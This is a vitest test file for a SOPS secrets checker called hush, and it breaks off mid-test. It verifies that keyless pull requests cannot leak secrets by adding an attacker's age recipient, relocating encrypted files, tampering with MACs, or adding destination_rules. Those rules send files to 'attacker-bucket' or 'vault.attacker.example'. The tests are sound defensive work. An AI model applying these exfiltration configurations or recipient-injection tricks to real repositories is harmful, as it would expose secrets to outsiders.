import { mkdirSync, readFileSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SOPS_TEST_PGP_KEYS, sopsVector } from "@hush/testkit";
import { withDecoySessionKey } from "./pgp-reframe.ts";
import { ageEntryBlocks, commitAll, createAgeKey, createRepo, createSandbox, git, hush, writeEncrypted, type AgeKey, type CheckJsonReport, type Sandbox, setUpCoveredRepo } from "./helpers.ts";

/**
 * What a pull request written without a key must not slip past the gates that need none:
 * `hush check --base` in CI (the base revision's rules, which the branch cannot change) and the
 * pre-commit hook (`hush check --staged`).
 */

let sb: Sandbox;

beforeAll(() => {
  sb = createSandbox();
});

afterAll(() => sb.cleanup());

function checkJson(cwd: string, args: readonly string[]): { status: number; report: CheckJsonReport } {
  const r = hush(sb, ["check", "--json", ...args], { cwd, env: sb.keylessEnv });
  return { status: r.status, report: JSON.parse(r.stdout) as CheckJsonReport };
}

function problemsOf(report: CheckJsonReport, path: string): string[] {
  return (report.files.find((f) => f.path === path)?.problems ?? []).map((p) => `${p.severity} ${p.code}${p.keyPath === undefined ? "" : ` ${p.keyPath}`}`);
}

/**
 * Adds to the age list of the encrypted YAML file `file` (no key needed) an entry for `recipient`:
 * the wrapped key of another file, so that the next `updatekeys` or `rotate` would wrap to it.
 */
function addAgeEntry(file: string, recipient: string): void {
  const scratch = join(sb.dir, `entry-${Date.now()}-${Math.random().toString(36).slice(2)}.yaml`);
  writeFileSync(scratch, "x: 1\n");
  const entry = ageEntryBlocks(hush(sb, ["encrypt", "--age", recipient, scratch], { cwd: sb.dir }).stdout)[0]!;
  const text = readFileSync(file, "utf8");
  const list = text.indexOf("\n    age:\n") + "\n    age:\n".length;
  writeFileSync(file, text.slice(0, list) + entry + text.slice(list));
}

/**
 * Checks the branch checked out in `repo` against `main` (`--base main`): `path` has the one
 * finding `code`, a warning (exit 0), and with `--strict` an error (exit 1) whose report line is `line`.
 */
function expectBaseWarning(repo: string, path: string, code: string, line: string | RegExp): void {
  expect(checkJson(repo, ["--strict"]).status).toBe(0);
  const warned = checkJson(repo, ["--base", "main"]);
  expect(warned.status).toBe(0);
  expect(problemsOf(warned.report, path)).toEqual([`warning ${code}`]);
  const strict = hush(sb, ["check", "--strict", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
  expect(strict.status).toBe(1);
  if (typeof line === "string") expect(strict.stdout).toContain(line);
  else expect(strict.stdout).toMatch(line);
}

/**
 * Checks the branch checked out in `repo` against `main`: by its own rules it passes (with
 * `--strict`), against main's `path` has the one error `unexpected-recipient` (exit 1, without
 * `--strict`) whose report line holds `line`.
 */
function expectBaseError(repo: string, path: string, line: string): void {
  expect(checkJson(repo, ["--strict"]).status).toBe(0);
  const failed = checkJson(repo, ["--base", "main"]);
  expect(failed.status).toBe(1);
  expect(problemsOf(failed.report, path)).toEqual(["error unexpected-recipient"]);
  expect(hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv }).stdout).toContain(line);
}

/** Rules that let mallory read the files under `dirs` (a path_regex group), and only sb's key read secrets/. */
function rulesLettingMalloryRead(dirs: string, mallory: AgeKey): string {
  return `creation_rules:\n  - path_regex: ^${dirs}/.*\\.yaml$\n    age: ${sb.recipient},${mallory.recipient}\n  - path_regex: ^secrets/.*\\.yaml$\n    age: ${sb.recipient}\n`;
}

/**
 * A covered repository whose main lets mallory read the files of dev/ (dev/app.yaml), and them
 * only, checked out on a new branch `pr`.
 */
function devReadableByMallory(name: string): { repo: string; mallory: AgeKey } {
  const repo = setUpCoveredRepo(sb, name);
  const mallory = createAgeKey(sb, `${name}-mallory`);
  writeFileSync(join(repo, ".sops.yaml"), rulesLettingMalloryRead("dev", mallory));
  mkdirSync(join(repo, "dev"));
  writeEncrypted(sb, repo, "dev/app.yaml", "password: dev-secret\n");
  expect(hush(sb, ["git", "setup"], { cwd: repo }).status).toBe(0);
  commitAll(sb, repo, "dev secrets");
  git(sb, repo, ["checkout", "-q", "-b", "pr"]);
  return { repo, mallory };
}

/**
 * `hush check --base main`'s output holds `path` (under `dirs`' rule) to main's rule for `source`,
 * the file it copies: mallory is named, and no one is told to re-key (which would hand mallory
 * the source's data key).
 */
function expectHeldToSource(stdout: string, path: string, dirs: string, source: string, mallory: AgeKey): void {
  expect(stdout).toContain(
    `${path}: warning: age recipient ${mallory.recipient} is named by the creation rule for this file (path_regex "^${dirs}/.*\\\\.yaml$") but not by the creation rule in main:.sops.yaml for ${source}, the file this one copies`,
  );
  expect(stdout).not.toContain("run `hush updatekeys`");
}

/**
 * A branch (`pr`) whose `.sops.yaml` adds a rule for `newsvc/` naming one more recipient
 * (mallory's), and moves secrets/app.yaml there; `edit` changes the moved file before the commit.
 */
function moveUnderBranchRule(name: string, edit?: (moved: string, mallory: AgeKey) => void, setUpDrivers = true): { repo: string; mallory: AgeKey } {
  const repo = setUpCoveredRepo(sb, name);
  const mallory = createAgeKey(sb, `${name}-mallory`);
  git(sb, repo, ["checkout", "-q", "-b", "pr"]);
  writeFileSync(join(repo, ".sops.yaml"), rulesLettingMalloryRead("newsvc", mallory));
  mkdirSync(join(repo, "newsvc"));
  git(sb, repo, ["mv", "secrets/app.yaml", "newsvc/app.yaml"]);
  edit?.(join(repo, "newsvc", "app.yaml"), mallory);
  // The branch sets up hush's drivers for its new directory too, as a careful author would.
  if (setUpDrivers) expect(hush(sb, ["git", "setup"], { cwd: repo }).status).toBe(0);
  commitAll(sb, repo, "move under a rule of the branch's own");
  return { repo, mallory };
}

describe("hush check --base: a branch that keeps the path_regex and changes the encryption rule", () => {
  it("cannot leave in plaintext a value the base revision's rule encrypts", () => {
    const repo = setUpCoveredRepo(sb, "base-rule");
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    // Same files covered; the branch's rule leaves `password` in clear, and a new file follows it.
    writeFileSync(join(repo, ".sops.yaml"), `creation_rules:\n  - path_regex: ^secrets/.*\\.yaml$\n    unencrypted_regex: ^password$\n    age: ${sb.recipient}\n`);
    writeEncrypted(sb, repo, "secrets/db.yaml", "password: plaintext-on-a-branch\nuser: app\n");
    commitAll(sb, repo, "leave the password in clear");

    // By the branch's own rules the file is in order.
    const own = checkJson(repo, ["--strict"]);
    expect(own.status, JSON.stringify(own.report)).toBe(0);
    const r = checkJson(repo, ["--strict", "--base", "main"]);
    expect(r.status, JSON.stringify(r.report)).toBe(1);
    expect(problemsOf(r.report, "secrets/db.yaml")).toEqual(['error plaintext-value ["password"]']);
    const problem = r.report.files.find((f) => f.path === "secrets/db.yaml")!.problems[0]!;
    expect(problem.message).toBe('value at ["password"] (line 1) is not encrypted, but the creation rule in main:.sops.yaml (unencrypted_suffix: _unencrypted) encrypts it (the file was encrypted with unencrypted_regex: ^password$)');
    expect(problem.line).toBe(1);
    expect(JSON.stringify(r.report)).not.toContain("plaintext-on-a-branch");
    // A file that follows both rules passes.
    expect(problemsOf(r.report, "secrets/app.yaml")).toEqual([]);
    const text = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expect(text.status).toBe(1);
    expect(text.stdout).toContain("secrets/db.yaml:1: error: value at [\"password\"] (line 1) is not encrypted, but the creation rule in main:.sops.yaml");
  });
});

describe("hush check --base: a branch that names a recipient of its own in .sops.yaml and in a file", () => {
  it("is held to the base revision's recipients: an entry it adds is an error, naming the base's config", () => {
    const repo = setUpCoveredRepo(sb, "base-recipients");
    const mallory = createAgeKey(sb, "base-recipients-mallory");
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    // Without any key: the rule names mallory too, and the file gets an entry for mallory.
    writeFileSync(join(repo, ".sops.yaml"), `creation_rules:\n  - path_regex: ^secrets/.*\\.yaml$\n    age: ${sb.recipient},${mallory.recipient}\n`);
    addAgeEntry(join(repo, "secrets", "app.yaml"), mallory.recipient);
    commitAll(sb, repo, "add a recipient");

    // By the branch's own rules the file is in order (expectBaseError checks that first).
    expectBaseError(repo, "secrets/app.yaml", `secrets/app.yaml: error: age recipient ${mallory.recipient} in key group 0 was added to the file by this branch and is not named by the creation rule in main:.sops.yaml for this file; merged, the next re-key by a key holder would give it the data key: name it in .sops.yaml on the base branch first (a change of its own), then re-key; or remove it from the file with \`hush updatekeys\` [unexpected-recipient]`);
    // A recipient both revisions name is no finding: the base's own file passes.
    git(sb, repo, ["checkout", "-q", "main"]);
    expect(problemsOf(checkJson(repo, ["--strict", "--base", "main"]).report, "secrets/app.yaml")).toEqual([]);

    // Named in the branch's rule only, no entry yet: the finding does not send a key holder to
    // `hush updatekeys`, which would wrap the data key to it.
    git(sb, repo, ["checkout", "-q", "-b", "name-only"]);
    writeFileSync(join(repo, ".sops.yaml"), `creation_rules:\n  - path_regex: ^secrets/.*\\.yaml$\n    age: ${sb.recipient},${mallory.recipient}\n`);
    commitAll(sb, repo, "name a recipient");
    const named = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expect(named.stdout).toContain(`secrets/app.yaml: warning: age recipient ${mallory.recipient} is named by the creation rule for this file (path_regex "^secrets/.*\\\\.yaml$") but not by the creation rule in main:.sops.yaml, and has no wrapped key in this file; \`hush updatekeys\` would give it one: add it on the base branch first`);
    expect(named.stdout).not.toContain("run `hush updatekeys`");
  });

  it("follows a file the branch moves to a path only its own rule covers: held to the rule of the path it came from", () => {
    const { repo, mallory } = moveUnderBranchRule("base-recipients-moved", (moved, mallory) => addAgeEntry(moved, mallory.recipient));
    expectBaseError(repo, "newsvc/app.yaml", `newsvc/app.yaml: error: age recipient ${mallory.recipient} in key group 0 was added to the file by this branch and is not named by the creation rule in main:.sops.yaml for secrets/app.yaml, the file this one copies;`);
  });

  it("moved unchanged to a path only its rule covers, a recipient only that rule names is no reason to re-key", () => {
    const { repo, mallory } = moveUnderBranchRule("base-recipients-moved-as-is");
    // The file's data key is the one secrets/app.yaml had at main: `hush updatekeys` here would
    // hand it (and every value encrypted under it) to a recipient main never named.
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expect(r.stdout).toContain(
      `newsvc/app.yaml: warning: age recipient ${mallory.recipient} is named by the creation rule for this file (path_regex "^newsvc/.*\\\\.yaml$") but not by the creation rule in main:.sops.yaml for secrets/app.yaml, the file this one copies, and has no wrapped key in this file; \`hush updatekeys\` would give it the data key of secrets/app.yaml: encrypt this file anew (\`hush encrypt\` draws a new data key) instead of copying that one, or name the recipient in that file's rule on the base branch first [missing-recipient]\n`,
    );
    expect(r.stdout).not.toContain("run `hush updatekeys`");
    expect(problemsOf(checkJson(repo, ["--base", "main"]).report, "newsvc/app.yaml")).toEqual(["warning missing-recipient"]);
    // Without --base nothing says where the file came from: the ordinary advice stands.
    expect(hush(sb, ["check"], { cwd: repo, env: sb.keylessEnv }).stdout).toContain("run `hush updatekeys`");
  });

  it("a move that also leaves hush's drivers off keeps its findings against the base rule next to the drivers'", () => {
    const { repo } = moveUnderBranchRule("base-recipients-moved-no-drivers", undefined, false);
    expect(problemsOf(checkJson(repo, ["--base", "main"]).report, "newsvc/app.yaml")).toEqual(["error drivers-overridden", "warning missing-recipient"]);
    expect(hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv }).stdout).toContain("but not by the creation rule in main:.sops.yaml for secrets/app.yaml, the file this one copies");
  });

  it("moved with its MAC changed (anyone can, and `updatekeys` does not check it), the copy is still found by its wrapped keys", () => {
    const { repo, mallory } = moveUnderBranchRule("base-recipients-moved-mac-changed", (moved) => {
      const text = readFileSync(moved, "utf8");
      const at = text.indexOf("mac: ENC[AES256_GCM,data:") + "mac: ENC[AES256_GCM,data:".length;
      writeFileSync(moved, text.slice(0, at) + (text[at] === "A" ? "B" : "A") + text.slice(at + 1));
    });
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expectHeldToSource(r.stdout, "newsvc/app.yaml", "newsvc", "secrets/app.yaml", mallory);
  });

  it("moved while the branch's .gitattributes turns off diffs of the path it left, the copy is still found (git grep would only say a binary file matches)", () => {
    const { repo, mallory } = moveUnderBranchRule("base-recipients-moved-source-binary");
    // The path the file left is no file of the branch's: no check looks at its attributes.
    writeFileSync(join(repo, ".gitattributes"), `${readFileSync(join(repo, ".gitattributes"), "utf8")}/secrets/app.yaml -diff\n`);
    commitAll(sb, repo, "no diffs of the old path");
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expectHeldToSource(r.stdout, "newsvc/app.yaml", "newsvc", "secrets/app.yaml", mallory);
  });

  it("a copy whose PGP message has another framing (SOPS still opens it) is still found by its wrapped key", () => {
    const repo = createRepo(sb, "base-recipients-pgp-reframed", "^secrets/.*\\.yaml$");
    const mallory = createAgeKey(sb, "base-recipients-pgp-reframed-mallory");
    writeFileSync(join(repo, ".sops.yaml"), `creation_rules:\n  - path_regex: ^secrets/.*\\.yaml$\n    pgp: ${SOPS_TEST_PGP_KEYS.key1}\n`);
    mkdirSync(join(repo, "secrets"));
    writeFileSync(join(repo, "secrets", "app.yaml"), readFileSync(sopsVector("format.enc.yaml"), "utf8"));
    expect(hush(sb, ["git", "setup"], { cwd: repo }).status).toBe(0);
    commitAll(sb, repo, "initial");
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    writeFileSync(join(repo, ".sops.yaml"), `creation_rules:\n  - path_regex: ^newsvc/.*\\.yaml$\n    pgp: ${SOPS_TEST_PGP_KEYS.key1}\n    age: ${mallory.recipient}\n  - path_regex: ^secrets/.*\\.yaml$\n    pgp: ${SOPS_TEST_PGP_KEYS.key1}\n`);
    mkdirSync(join(repo, "newsvc"));
    git(sb, repo, ["mv", "secrets/app.yaml", "newsvc/app.yaml"]);
    // The MAC too, which `updatekeys` does not check.
    writeFileSync(join(repo, "newsvc", "app.yaml"), withDecoySessionKey(readFileSync(join(repo, "newsvc", "app.yaml"), "utf8")).replace("mac: ENC[AES256_GCM,data:t5sI", "mac: ENC[AES256_GCM,data:A5sI"));
    expect(hush(sb, ["git", "setup"], { cwd: repo }).status).toBe(0);
    commitAll(sb, repo, "move under a rule of the branch's own");
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expectHeldToSource(r.stdout, "newsvc/app.yaml", "newsvc", "secrets/app.yaml", mallory);
  });

  it("a copy of a file the base branch added after this branch started is held to the rule for that file", () => {
    const repo = setUpCoveredRepo(sb, "base-recipients-copy-from-later");
    const mallory = createAgeKey(sb, "base-recipients-copy-from-later-mallory");
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    git(sb, repo, ["checkout", "-q", "main"]);
    writeEncrypted(sb, repo, "secrets/prod.yaml", "password: added-on-main-later\n");
    commitAll(sb, repo, "prod secrets");
    const later = readFileSync(join(repo, "secrets", "prod.yaml"), "utf8");
    git(sb, repo, ["checkout", "-q", "pr"]);
    // The branch never merged main: it copies the file's text, which anyone who can read the repository can.
    writeFileSync(join(repo, ".sops.yaml"), rulesLettingMalloryRead("newsvc", mallory));
    mkdirSync(join(repo, "newsvc"));
    writeFileSync(join(repo, "newsvc", "prod.yaml"), later);
    expect(hush(sb, ["git", "setup"], { cwd: repo }).status).toBe(0);
    commitAll(sb, repo, "copy under a rule of the branch's own");
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expectHeldToSource(r.stdout, "newsvc/prod.yaml", "newsvc", "secrets/prod.yaml", mallory);
  });

  it("a copy moved to a path the base's rules cover for more readers is held to the rule of the file it copies too", () => {
    const { repo, mallory } = devReadableByMallory("base-recipients-into-dev");
    // No change of .sops.yaml at all: the production file moves to dev/.
    git(sb, repo, ["mv", "secrets/app.yaml", "dev/prod.yaml"]);
    commitAll(sb, repo, "move");
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expectHeldToSource(r.stdout, "dev/prod.yaml", "dev", "secrets/app.yaml", mallory);
    // The branch changed no rule: the way out is a file of its own, not a change of .sops.yaml.
    expect(r.stdout).toContain(
      "`hush updatekeys` would give it the data key of secrets/app.yaml: encrypt this file anew (`hush encrypt` draws a new data key) instead of copying that one, or name the recipient in that file's rule on the base branch first [missing-recipient]\n",
    );
    expect(r.stdout).not.toContain("this branch's rule");
  });

  it("a copy whose Vault transit ciphertext names its version otherwise (v01 is v1 to Vault) is still found by its wrapped key", () => {
    const repo = setUpCoveredRepo(sb, "base-recipients-vault-version");
    const mallory = createAgeKey(sb, "base-recipients-vault-version-mallory");
    const uri = "http://127.0.0.1:8200/v1/transit/keys/app";
    // The file's one key is Vault's (the ciphertext stands for one: no key opens it here).
    const file = join(repo, "secrets", "app.yaml");
    const text = readFileSync(file, "utf8");
    const vaultEntry = `    hc_vault:\n        - vault_address: http://127.0.0.1:8200\n          engine_path: transit\n          key_name: app\n          created_at: "2026-01-01T00:00:00Z"\n          enc: vault:v1:${Buffer.from(Array.from({ length: 72 }, (_, i) => (i * 37 + 11) % 256)).toString("base64")}\n`;
    writeFileSync(file, text.slice(0, text.indexOf("\n    age:\n") + 1) + vaultEntry + text.slice(text.indexOf("\n    lastmodified:") + 1));
    writeFileSync(join(repo, ".sops.yaml"), `creation_rules:\n  - path_regex: ^secrets/.*\\.yaml$\n    hc_vault_transit_uri: ${uri}\n`);
    commitAll(sb, repo, "vault");
    expect(problemsOf(checkJson(repo, ["--strict", "--base", "main"]).report, "secrets/app.yaml")).toEqual([]);
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    writeFileSync(join(repo, ".sops.yaml"), `creation_rules:\n  - path_regex: ^newsvc/.*\\.yaml$\n    hc_vault_transit_uri: ${uri}\n    age: ${mallory.recipient}\n  - path_regex: ^secrets/.*\\.yaml$\n    hc_vault_transit_uri: ${uri}\n`);
    mkdirSync(join(repo, "newsvc"));
    git(sb, repo, ["mv", "secrets/app.yaml", "newsvc/app.yaml"]);
    const moved = readFileSync(join(repo, "newsvc", "app.yaml"), "utf8");
    writeFileSync(join(repo, "newsvc", "app.yaml"), moved.replace("enc: vault:v1:", "enc: vault:v01:").replace(/mac: ENC\[AES256_GCM,data:(.)/, (m, c: string) => m.slice(0, -1) + (c === "A" ? "B" : "A")));
    expect(hush(sb, ["git", "setup"], { cwd: repo }).status).toBe(0);
    commitAll(sb, repo, "move under a rule of the branch's own");
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expectHeldToSource(r.stdout, "newsvc/app.yaml", "newsvc", "secrets/app.yaml", mallory);
  });

  it("a file written over with another file's text is held to the rule of the file whose wrapped keys it holds", () => {
    const { repo, mallory } = devReadableByMallory("base-recipients-overwritten");
    // Not a new path: dev/app.yaml gets the production file's text (its data key).
    writeFileSync(join(repo, "dev", "app.yaml"), readFileSync(join(repo, "secrets", "app.yaml"), "utf8"));
    commitAll(sb, repo, "overwrite");
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expectHeldToSource(r.stdout, "dev/app.yaml", "dev", "secrets/app.yaml", mallory);
  });

  it("a copy carrying the MAC of a file another rule covers is held to the rule of the file whose wrapped keys it holds", () => {
    const { repo, mallory } = devReadableByMallory("base-recipients-other-mac");
    const macLine = (text: string): string => /^ {4}mac: .*$/m.exec(text)![0];
    writeFileSync(join(repo, ".sops.yaml"), rulesLettingMalloryRead("(dev|newsvc)", mallory));
    mkdirSync(join(repo, "newsvc"));
    git(sb, repo, ["mv", "secrets/app.yaml", "newsvc/app.yaml"]);
    const moved = readFileSync(join(repo, "newsvc", "app.yaml"), "utf8");
    writeFileSync(join(repo, "newsvc", "app.yaml"), moved.replace(macLine(moved), macLine(readFileSync(join(repo, "dev", "app.yaml"), "utf8"))));
    expect(hush(sb, ["git", "setup"], { cwd: repo }).status).toBe(0);
    commitAll(sb, repo, "move under a rule of the branch's own");
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expectHeldToSource(r.stdout, "newsvc/app.yaml", "(dev|newsvc)", "secrets/app.yaml", mallory);
  });
});

describe("hush check --base: destination_rules, which only `sops publish` reads", () => {
  it("a branch's new or changed destination_rules are a finding on its .sops.yaml; the base's own are not", () => {
    const repo = setUpCoveredRepo(sb, "destination-rules");
    const mallory = createAgeKey(sb, "destination-rules-mallory");
    const config = readFileSync(join(repo, ".sops.yaml"), "utf8");
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    // A key holder's `sops publish` would send the files re-encrypted to mallory, and the Vault
    // destination their plaintext with the key holder's Vault token.
    writeFileSync(
      join(repo, ".sops.yaml"),
      `${config}destination_rules:\n  - path_regex: ^secrets/\n    s3_bucket: attacker-bucket\n    recreation_rule:\n      age: ${mallory.recipient}\n  - path_regex: ^secrets/\n    vault_address: https://vault.attacker.example\n    vault_path: kv/\n`,
    );
    commitAll(sb, repo, "publish somewhere");
    expectBaseWarning(
      repo,
      ".sops.yaml",
      "destination-rules-changed",
      ".sops.yaml: error: destination_rules that main:.sops.yaml does not have: `sops publish` by a key holder would send the files they cover, re-encrypted to the keys they name or in clear to the Vault they name, and hush reads them nowhere else; add them on the base branch first, in a change of .sops.yaml alone [destination-rules-changed]\n",
    );
    // Once the base has them, a branch that keeps them has nothing to report, and one that
    // changes them does.
    git(sb, repo, ["checkout", "-q", "main"]);
    git(sb, repo, ["merge", "-q", "--ff-only", "pr"]);
    git(sb, repo, ["checkout", "-q", "-b", "pr2"]);
    writeEncrypted(sb, repo, "secrets/other.yaml", "password: destination-rules-2\n");
    commitAll(sb, repo, "another secret");
    expect(problemsOf(checkJson(repo, ["--strict", "--base", "main"]).report, ".sops.yaml")).toEqual([]);
    writeFileSync(join(repo, ".sops.yaml"), readFileSync(join(repo, ".sops.yaml"), "utf8").replace("attacker-bucket", "other-bucket"));
    commitAll(sb, repo, "another bucket");
    const changed = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expect(changed.stdout).toContain(".sops.yaml: warning: destination_rules that differ from those of main:.sops.yaml: `sops publish`");
  });
});

describe("hush check --base: destination_rules hush cannot read", () => {
  it("a .sops.yaml that no checked file looks up, with destination_rules and a key SOPS ignores, is still a finding", () => {
    const repo = setUpCoveredRepo(sb, "destination-rules-unread");
    const mallory = createAgeKey(sb, "destination-rules-unread-mallory");
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    mkdirSync(join(repo, "publish"));
    // SOPS reads its config leniently (unknown keys are ignored); hush refuses an unknown key.
    writeFileSync(join(repo, "publish", ".sops.yaml"), `publish_notes: from here\ndestination_rules:\n  - path_regex: ^secrets/\n    s3_bucket: attacker-bucket\n    recreation_rule:\n      age: ${mallory.recipient}\n`);
    commitAll(sb, repo, "publish from a directory of its own");
    const r = hush(sb, ["check", "--base", "main"], { cwd: repo, env: sb.keylessEnv });
    expect(r.stdout).toContain('publish/.sops.yaml: warning: hush cannot read this .sops.yaml (invalid .sops.yaml: line 1: unknown key "publish_notes" in the top level), so it cannot tell whether it adds or changes destination_rules, which `sops publish` by a key holder would read in it all the same: fix it [destination-rules-changed]\n');
    expect(hush(sb, ["check", "--strict", "--base", "main"], { cwd: repo, env: sb.keylessEnv }).status).toBe(1);
  });

  it("a .SOPS.yaml, which SOPS reads as .sops.yaml where names ignore case (macOS, Windows), is compared too", () => {
    const repo = setUpCoveredRepo(sb, "destination-rules-case");
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    mkdirSync(join(repo, "publish"));
    writeFileSync(join(repo, "publish", ".SOPS.yaml"), "destination_rules:\n  - path_regex: ^secrets/\n    vault_address: https://vault.attacker.example\n    vault_path: kv/\n");
    commitAll(sb, repo, "publish from a directory of its own");
    expect(problemsOf(checkJson(repo, ["--base", "main"]).report, "publish/.SOPS.yaml")).toEqual(["warning destination-rules-changed"]);
  });

  it("a .sops.yaml too large to read is an unreadable error, not left out", () => {
    const repo = setUpCoveredRepo(sb, "destination-rules-huge");
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    mkdirSync(join(repo, "publish"));
    writeFileSync(join(repo, "publish", ".sops.yaml"), `${"# padding padding padding padding padding padding padding padding\n".repeat(270_000)}destination_rules:\n  - path_regex: ^secrets/\n    vault_address: https://vault.attacker.example\n    vault_path: kv/\n`);
    commitAll(sb, repo, "publish from a directory of its own");
    const r = checkJson(repo, ["--base", "main"]);
    expect(r.status).toBe(1);
    expect(problemsOf(r.report, "publish/.sops.yaml")).toEqual(["error unreadable"]);
  });

  it("a .sops.yaml too large to scan for secrets, without the word sops, is still compared with the base's", () => {
    const repo = setUpCoveredRepo(sb, "destination-rules-large");
    git(sb, repo, ["checkout", "-q", "-b", "pr"]);
    mkdirSync(join(repo, "publish"));
    writeFileSync(join(repo, "publish", ".sops.yaml"), `${"# padding\n".repeat(110_000)}destination_rules:\n  - path_regex: ^secrets/\n    vault_address: https://vault.attacker.example\n    vault_path: kv/\n`);
    commitAll(sb, repo, "publish from a directory of its own");
    expect(problemsOf(checkJson(repo, ["--base", "main"]).report, "publish/.sops.yaml")).toEqual(["warning destination-rules-changed"]);
  });
});

describe("hush check --staged: a type change", () => {
  it("a covered path that was a link, staged as a plaintext file, is checked", () => {
    const repo = setUpCoveredRepo(sb, "type-change");
    symlinkSync("app.yaml", join(repo, "secrets", "current.yaml"));
    commitAll(sb, repo, "a link to the current secrets");
    unlinkSync(join(repo, "secrets", "current.yaml"));
    writeFileSync(join(repo, "secrets", "current.yaml"), "password: plaintext-type-change\n");
    git(sb, repo, ["add", "secrets/current.yaml"]);
    expect(git(sb, repo, ["diff", "--cached", "--name-status"]).stdout).toBe("T\tsecrets/current.yaml\n");

    const r = checkJson(repo, ["--staged"]);
    expect(r.status, JSON.stringify(r.report)).toBe(1);
    expect(problemsOf(r.report, "secrets/current.yaml")).toEqual(["error not-encrypted"]);
    expect(JSON.stringify(r.report)).not.toContain("plaintext-type-change");
  });
});

describe("hush check --strict: a plaintext comment added to an encrypted file by hand", () => {
  it("is an error (a warning without --strict): a commented-out secret passed the strict gate", () => {
    const repo = createRepo(sb, "comments");
    writeEncrypted(sb, repo, "app.enc.env", "PASSWORD=dotenv-secret\n");
    writeEncrypted(sb, repo, "app.enc.ini", "[db]\npassword = ini-secret\n");
    commitAll(sb, repo, "initial");
    // No MAC covers comments: anyone can add one, in clear, without a key.
    writeFileSync(join(repo, "app.enc.env"), `# PASSWORD=old-dotenv-secret\n${readFileSync(join(repo, "app.enc.env"), "utf8")}`);
    const ini = readFileSync(join(repo, "app.enc.ini"), "utf8");
    // On a line of its own: one after a value is an error without --strict (other readers take it
    // into the value; test/workflows/other-readers.test.ts).
    writeFileSync(join(repo, "app.enc.ini"), ini.replace(/^(password\s*=\s*ENC\[[^\n]*\])$/m, "; was old-ini-secret\n$1"));
    commitAll(sb, repo, "comments in clear");

    const lenient = checkJson(repo, []);
    expect(lenient.status, JSON.stringify(lenient.report)).toBe(0);
    expect(problemsOf(lenient.report, "app.enc.env")).toEqual(["warning plaintext-comment (top level)"]);
    expect(problemsOf(lenient.report, "app.enc.ini")).toEqual(['warning plaintext-comment ["db"]']);
    const r = checkJson(repo, ["--strict"]);
    expect(r.status, JSON.stringify(r.report)).toBe(1);
    expect(problemsOf(r.report, "app.enc.env")).toEqual(["error plaintext-comment (top level)"]);
    expect(problemsOf(r.report, "app.enc.ini")).toEqual(['error plaintext-comment ["db"]']);
    expect(JSON.stringify(r.report)).not.toMatch(/old-(dotenv|ini)-secret/);
  });
});

describe("hush check: text hidden in the sops metadata, which no tool reads and no review shows", () => {
  it("a comment inside or after the metadata block (YAML, INI, TOML), and a later YAML document's differing metadata", () => {
    const repo = createRepo(sb, "hidden-metadata");
    writeEncrypted(sb, repo, "in.enc.yaml", "password: yaml-secret\n");
    writeEncrypted(sb, repo, "after.enc.yaml", "password: yaml-secret\n");
    writeEncrypted(sb, repo, "app.enc.ini", "[db]\npassword = ini-secret\n");
    writeEncrypted(sb, repo, "app.enc.toml", 'password = "toml-secret"\n');
    writeEncrypted(sb, repo, "stream.enc.yaml", "a: first\n---\nb: second\n");
    writeEncrypted(sb, repo, "clean.enc.yaml", "a: first\n---\nb: second\n");
    expect(hush(sb, ["git", "setup"], { cwd: repo }).status).toBe(0);
    commitAll(sb, repo, "initial");
    const edit = (path: string, change: (text: string) => string): void => {
      const before = readFileSync(join(repo, path), "utf8");
      const after = change(before);
      expect(after, path).not.toBe(before);
      writeFileSync(join(repo, path), after);
    };
    edit("in.enc.yaml", (t) => t.replace("\nsops:\n", "\nsops:\n    # hidden-secret-1\n"));
    edit("after.enc.yaml", (t) => `${t}# hidden-secret-2\n`);
    edit("app.enc.ini", (t) => t.replace("[sops]\n", "[sops]\n; hidden-secret-3\n"));
    edit("app.enc.toml", (t) => `${t}# hidden-secret-4\n`);
    // The second document's block: a field with a secret, which SOPS and hush never read.
    edit("stream.enc.yaml", (t) => `${t.slice(0, t.lastIndexOf("\nsops:\n"))}\nsops:\n    note: hidden-secret-5\n${t.slice(t.lastIndexOf("\nsops:\n") + "\nsops:\n".length)}`);
    commitAll(sb, repo, "hide text in the metadata");
    // The review shows a line for it, with or without a key (without: what a reviewer of a fork's pull request sees).
    const reviews: ReadonlyArray<readonly [string, Record<string, string>]> = [
      ...["in.enc.yaml", "after.enc.yaml", "app.enc.ini", "app.enc.toml", "stream.enc.yaml"].map((path) => [path, sb.keylessEnv] as const),
      ["in.enc.yaml", sb.env],
    ];
    for (const [path, env] of reviews) {
      const review = git(sb, repo, ["show", "HEAD", "--", path], { env }).stdout;
      expect(review, path).toMatch(/^\+# hush: ignored: (1 comment line\(s\) in the sops metadata \(from line \d+\), text hash|a later YAML document's sops metadata at line \d+, not the first document's .*, hash) [0-9a-f]{16}$/m);
      expect(review, path).not.toContain("hidden-secret");
    }

